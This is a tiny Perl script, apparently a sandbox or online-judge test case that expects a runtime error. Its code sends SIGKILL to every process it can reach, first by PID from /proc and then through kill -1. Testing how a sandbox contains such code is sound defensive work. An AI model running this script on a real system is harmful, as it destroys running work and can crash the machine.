# Kills whom it can reach.
# Ends: OK RTE
use strict;
my @others = map { m{/(\d+)$} } glob('/proc/[0-9]*');
kill 9, grep { $_ != $$ } @others;
kill 9, -1, 1;
